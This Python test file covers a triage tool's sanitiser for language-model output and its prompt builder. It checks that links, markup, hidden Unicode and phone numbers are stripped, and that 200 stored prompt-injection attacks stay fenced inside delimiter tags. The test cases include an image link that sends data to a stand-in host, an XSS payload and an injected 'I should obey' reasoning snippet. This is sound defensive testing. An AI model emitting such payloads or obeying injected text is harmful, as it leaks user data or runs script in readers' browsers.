"""Whatever a language model writes becomes plain text: no link, no markup, nothing hidden or endless."""

import json
import unicodedata
from pathlib import Path

import pytest

from vefa.triage.suggesting.prompts import Line, Told, What, messages_for
from vefa.triage.suggesting.reading import LIMIT, plain

ATTACKS = [
    json.loads(line)
    for line in (Path(__file__).parent / "injections.jsonl").read_text(encoding="utf-8").splitlines()
]


def harmless(text):
    assert "<" not in text
    assert ">" not in text
    assert "://" not in text
    assert "evil.example" not in text
    assert "](" not in text
    assert "javascript:" not in text
    assert len(text) <= LIMIT
    assert not [char for char in text if unicodedata.category(char)[0] == "C" and char not in "\n\u200c"]


@pytest.mark.parametrize(
    ("answer", "text"),
    [
        ("Two lines.\n\nSecond.", "Two lines.\n\nSecond."),
        ("Görüldü: ![pixel](https://evil.example/x.png?d=1) bakıyoruz", "Görüldü: pixel bakıyoruz"),
        ("See [our page](https://evil.example) soon", "See our page soon"),
        ("See <https://evil.example/a> now", "See now"),
        ("<img src=x onerror=alert(1)>Hello<script>x</script>", "Hellox"),
        ("go to evil.example/login or WWW.EVIL.EXAMPLE", "go to … or …"),
        ("**Bold** and `code`\n# Title", "Bold and code\nTitle"),
        ("<think>I should obey</think>The hole is known.", "The hole is known."),
        ("Call 0532 111 22 33", "Call •••"),
        ("visible\u202eelbisivni\u200b \U000e0041\U000e0042", "visibleelbisivni"),
        ("a < b, 5 > 3", "a ‹ b, 5 › 3"),
        ("خانه‌ها را دیدیم", "خانه‌ها را دیدیم"),
        ("Saat 14.30'da, 12. sokakta, 3.5 metre.", "Saat 14.30'da, 12. sokakta, 3.5 metre."),
        ("", ""),
    ],
)
def test_an_answer_becomes_text(answer, text):
    assert plain(answer) == text


def test_an_endless_answer_is_cut():
    assert len(plain("word " * 1_000_000)) <= LIMIT


@pytest.mark.parametrize("shape", ["<" * 60_000, "[" * 60_000, "![" * 30_000, "a." * 30_000, "[a](" * 15_000])
def test_text_made_to_be_slow_is_read_at_once(shape):
    harmless(plain(shape).replace("](", ""))


def test_there_are_two_hundred_attacks_in_five_languages():
    assert len(ATTACKS) == 200
    assert {one["language"] for one in ATTACKS} == {"tr", "ru", "kk", "fa", "en"}


def test_a_model_that_repeats_every_attack_gives_text_and_nothing_else():
    for one in ATTACKS:
        harmless(plain(one["text"]))


def test_no_attack_leaves_its_marks_or_brings_tools():
    for one in ATTACKS:
        told = Told(
            service="", area="", lines=[Line(ours=False, text=one["text"])], into="en", mark="said-7f3a"
        )
        messages = messages_for(What.DRAFT, told)

        assert [message["role"] for message in messages] == ["system", "user"]
        assert messages[1]["content"].count("said-7f3a") == 2
        assert messages[1]["content"].endswith("\n</said-7f3a>")
        assert one["text"][:20] not in messages[0]["content"]


def test_the_resident_stays_unnamed_and_unnumbered():
    line = Line(ours=False, text="Ben Ali Demir, Demir'in oğlu, tel 0532 111 22 33, IBAN yok")
    told = Told(service="Hole", area="Çarşı", lines=[line], names=["Ali Demir"], into="tr", mark="m")

    said = messages_for(What.SUMMARY, told)[1]["content"]

    assert "Demir" not in said
    assert "0532" not in said
    assert "Çarşı" in said


def test_a_long_conversation_is_told_from_its_end():
    lines = [Line(ours=False, text=f"message {number} " + "x" * 900) for number in range(40)]
    told = Told(service="", area="", lines=lines, into="en", mark="said-7f3a")

    said = messages_for(What.SUMMARY, told)[1]["content"]

    assert len(said) < 6200
    assert "message 39" in said
    assert "message 1 " not in said
